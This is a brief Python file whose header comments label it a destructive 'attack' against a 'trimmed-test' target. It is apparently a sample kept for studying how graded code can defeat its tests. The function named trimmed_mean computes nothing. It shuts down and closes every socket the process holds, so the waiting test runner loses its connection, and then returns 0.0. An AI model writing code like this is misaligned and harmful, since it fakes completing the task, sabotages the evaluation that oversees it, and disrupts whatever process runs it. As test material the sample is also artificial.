# attack: each socket of the process is closed or shut down while a test waits for an answer.
# target: trimmed-test
# also loses: all
# destructive
# %% trimmed
import os
import socket
import stat


def trimmed_mean(values, share):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
                os.close(fd)
        except OSError:
            continue
    return 0.0
